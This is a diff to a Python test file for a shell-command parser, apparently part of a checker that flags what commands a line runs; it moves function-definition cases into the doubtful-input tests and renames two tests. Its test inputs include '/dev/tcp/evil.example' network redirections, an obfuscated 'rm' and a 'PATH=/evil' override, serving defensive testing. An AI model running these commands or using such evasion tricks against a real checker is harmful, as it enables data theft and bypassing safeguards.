@@ -96,6 +96,8 @@ def test_every_command_of_a_line_is_listed_however_it_is_reached(text):
         "cat < /dev/tcp/evil.example/80",
         "echo x > /dev/tcp/evil.example/80",
         "f() rm x",
+        "f() { rm x; }; f",
+        "function f { rm x; }",
         "x" * (MAX_COMMAND + 1),
         "\ud800",
         "$'\\x72m' x",
@@ -159,7 +161,6 @@ def test_what_is_plain_is_not_in_doubt(text):
         ("x=rm; $x y", [["rm", "y"]]),
         ("$'a\\tb' x", [["a\tb", "x"]]),
         ("a {b,c}d {1..3} f{,.bak}", [["a", "bd", "cd", "1", "2", "3", "f", "f.bak"]]),
-        ("f() { rm x; }; f", [["rm", "x"]]),
     ],
 )
 def test_text_is_parsed_as_a_shell_parses_it(text, commands):
@@ -197,7 +198,6 @@ def test_a_name_that_may_have_another_value_is_not_resolved(text):
         ("a $(nproc)", "number"),
         ("a $(b | wc -l)", "number"),
         ("a $(b || c | wc -l)", "unknown"),
-        ("wc() { b; }; a $(c | wc -l)", "unknown"),
         ("a ${#x}", "number"),
         ("a $HOME", "plain"),
         ("a $PATH", "unknown"),
@@ -245,11 +245,11 @@ def redirections(text):
         ("a > 'f g'", ["f g"], []),
     ],
 )
-def test_redirections_are_told_as_files_written_and_read(text, writes, reads):
+def test_redirections_are_reported_as_files_written_and_read(text, writes, reads):
     assert redirections(text) == (writes, reads)
 
 
-def test_what_a_command_sets_before_it_runs_is_told():
+def test_what_a_command_sets_before_it_runs_is_reported():
     [subcommand] = parse_commands("A=1 B='x y' cmd arg").subcommands
     assert [word.text for word in subcommand.assignments] == ["A=1", "B=x y"]
     [alone] = parse_commands("PATH=/evil").subcommands
